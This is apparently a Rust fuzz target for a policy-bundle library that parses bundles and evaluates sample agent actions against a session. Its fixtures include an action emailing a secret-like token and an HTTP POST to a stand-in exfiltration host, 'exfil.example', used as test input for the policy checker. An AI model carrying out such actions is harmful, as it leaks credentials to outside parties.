//! Fuzz `Bundle::from_bytes`: it must never panic, and a bundle that loads must evaluate any
//! action without panicking. The first byte picks the mode: raw bytes (exercises the envelope),
//! or the rest as a body wrapped in a correct header and content hash (exercises the decoder
//! and verifier, which a random hash would otherwise hide).
#![no_main]

use bundle::{Bundle, Trust};
use libfuzzer_sys::fuzz_target;
use sha2::{Digest, Sha256};

fn wrap(body: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(body.len() + 64);
    out.extend_from_slice(b"PCLB");
    out.extend_from_slice(&bundle::format::FORMAT_VERSION.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out.extend_from_slice(&Sha256::digest(body));
    out.push(0);
    out.extend_from_slice(&(body.len() as u32).to_le_bytes());
    out.extend_from_slice(body);
    out
}

fn actions() -> Vec<bundle::action::Action> {
    [
        r#"{"kind":"mcp","operation":"tools/call","tool":"git_push","arguments":{"branch":"deps/x"}}"#,
        r#"{"kind":"mcp","operation":"tools/call","tool":"send_email","arguments":{"body":"sk-abc","limit":[1]}}"#,
        r#"{"kind":"http","operation":"POST","target":{"host":"exfil.example","port":443,"path":"/"},"size":10}"#,
    ]
    .iter()
    .filter_map(|s| serde_json::from_str(s).ok())
    .collect()
}

fuzz_target!(|data: &[u8]| {
    let Some((&mode, rest)) = data.split_first() else {
        return;
    };
    let bytes = if mode & 1 == 0 {
        rest.to_vec()
    } else {
        wrap(rest)
    };
    if let Ok(b) = Bundle::from_bytes(&bytes, &Trust::AllowUnsigned) {
        let mut s = bundle::session::SessionState::new(1_800_000_000_000);
        s.status = bundle::session::SessionStatus::Active;
        s.intent = Some("dependency_update".into());
        for a in actions() {
            let _ = b.evaluate(&a, &s, 1_800_000_000_000);
        }
        let _ = bundle::disasm::disassemble(&b);
    }
});
